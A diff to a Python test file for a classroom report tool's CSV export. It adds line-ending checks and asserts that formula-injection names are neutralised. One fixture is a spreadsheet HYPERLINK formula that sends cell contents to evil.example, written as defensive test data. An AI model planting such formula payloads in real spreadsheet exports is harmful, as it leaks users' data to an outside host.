@@ -59,7 +59,11 @@ BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c
 
 
 def assert_nothing_raw(text: str) -> None:
-    """No control (but newline), C1 or bidi character: decided without the module under test."""
+    """No control (but a line end: LF, or CR LF as CSV writes it), C1 or bidi character.
+
+    Decided without the module under test.
+    """
+    text = text.replace("\r\n", "\n")
     found = [c for c in text if (unicodedata.category(c) == "Cc" and c != "\n") or c in BIDI]
     assert not found, f"raw {[f'U+{ord(c):04X}' for c in found[:5]]} in output"
 
@@ -175,7 +179,8 @@ def test_report_table_shows_names_visibly_and_stays_narrow(classroom: Classroom)
 
 def test_report_csv_neutralises_formulas_and_keeps_numbers(classroom: Classroom) -> None:
     out = output(cybercourse(classroom, "report", str(classroom.data), "--format", "csv"))
-    rows = list(csv.DictReader(io.StringIO(out)))
+    assert out.count("\n") == out.count("\r\n") == len(NAMES) + 1  # RFC 4180 line ends, one row a learner
+    rows = list(csv.DictReader(io.StringIO(out, newline="")))
     names = {row["learner"] for row in rows}
     assert '\'=HYPERLINK("http://evil.example/?"&A1,"Giang")' in names
     assert {"'+1+1 Hoa", "'-2+3 Khanh", "'@SUM(1) Linh", "'^IMai", "'^MNam"} <= names
@@ -183,6 +188,7 @@ def test_report_csv_neutralises_formulas_and_keeps_numbers(classroom: Classroom)
     for row in rows:
         assert not row["learner"].startswith(("=", "+", "-", "@", "\t", "\r"))
         assert float(row["lessons_read"]) == 0 and float(row["minutes_spent"]) >= 0
+        assert row["final-exam:attempts"] == "0"  # the last cell: no stray ^M
     clipboard = next(row for row in rows if row["learner"] == SHOWN["clipboard"])
     assert clipboard["first-quiz:attempts"] == "1" and clipboard["first-quiz:best"] == "30.0"
 
